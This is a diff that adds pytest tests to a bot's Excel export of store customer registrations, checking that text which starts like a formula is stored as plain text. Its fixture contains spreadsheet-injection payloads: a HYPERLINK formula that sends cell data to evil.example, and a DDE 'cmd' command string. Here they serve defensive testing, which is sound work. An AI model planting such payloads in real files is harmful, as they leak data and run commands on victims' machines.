@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 from io import BytesIO
+from zipfile import ZipFile
 
 import pytest
 from openpyxl import load_workbook
@@ -126,3 +128,74 @@ def test_frozen_header_autofilter_and_column_widths() -> None:
 def test_an_empty_team_still_gets_a_sheet_with_headers() -> None:
     _, sheet = open_sheet(tracking_workbook([], "zh", ZONE, "朝阳店", DAY))
     assert sheet.max_row == 1 and sheet.auto_filter.ref == "A1:K1" and sheet.freeze_panes == "A2"
+
+
+# --- issue 10 item 4: no cell is ever a formula ----------------------------------------------------
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def typed_by_people(start: str) -> TrackingRow:
+    """A registration whose every typed field starts with `start`, as if someone meant harm."""
+    return TrackingRow(
+        registration_id=9,
+        customer_name=f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")',
+        phone="+14155552671",  # a foreign number: shown as +1 415-555-2671
+        address=f"{start}cmd|' /C calc'!A0 北京市朝阳区建国路88号",
+        needs=f"{start}1+1 要1.8米床垫",
+        expected_purchase=None,
+        holder=f"{start}SUM(A1:A9)",
+        filed_at=NOW - timedelta(hours=1),
+        last_follow_up_at=None,
+        state=State.ACTIVE,
+        challenging=False,
+        deadline=None,
+    )
+
+
+def sheet_xml(data: bytes) -> str:
+    with ZipFile(BytesIO(data)) as archive:
+        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+@pytest.mark.parametrize("mask_phones", [False, True], ids=["full", "masked"])
+def test_text_that_starts_like_a_formula_is_written_as_text(start: str, mask_phones: bool) -> None:
+    data = tracking_workbook([typed_by_people(start), *rows()], "zh", ZONE, "朝阳店", DAY, mask_phones=mask_phones)
+    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
+    workbook = load_workbook(BytesIO(data))
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value.startswith(tuple(FORMULA_STARTS)):
+                    assert cell.quotePrefix, (cell.coordinate, cell.value)  # stays text when edited
+    _, sheet = open_sheet(data)
+    typed = typed_by_people(start)
+    row = [cell.value for cell in sheet[2]]
+    assert row[0] == typed.customer_name and row[3] == typed.needs and row[5] == typed.holder  # shown as typed
+    assert row[1] == ("+1 415-555-2671" if not mask_phones else "415****2671")
+    assert row[2] == (None if mask_phones else typed.address)
+
+
+def test_a_cell_from_elsewhere_that_would_be_a_formula_is_text_too() -> None:
+    # The one writer every workbook uses also takes ready-made cells (dates, headers).
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    from bot.xlsx import append_row
+
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet("s")
+    append_row(sheet, [WriteOnlyCell(sheet, value="=1+1"), "=2+2", "-3", 4, None, "plain"])
+    out = BytesIO()
+    workbook.save(out)
+    assert "<f>" not in sheet_xml(out.getvalue())
+    values = [(cell.value, cell.data_type) for cell in load_workbook(BytesIO(out.getvalue())).active[1]]
+    assert values == [("=1+1", "s"), ("=2+2", "s"), ("-3", "s"), (4, "n"), (None, "n"), ("plain", "s")]
+
+
+def test_a_control_character_a_workbook_cannot_hold_does_not_fail_the_workbook() -> None:
+    row = replace(rows()[0], needs="床垫\x01\x1b要大号", holder="王芳\x00")
+    _, sheet = open_sheet(tracking_workbook([row], "zh", ZONE, "朝阳店", DAY))
+    assert sheet["D2"].value == "床垫要大号" and sheet["F2"].value == "王芳"
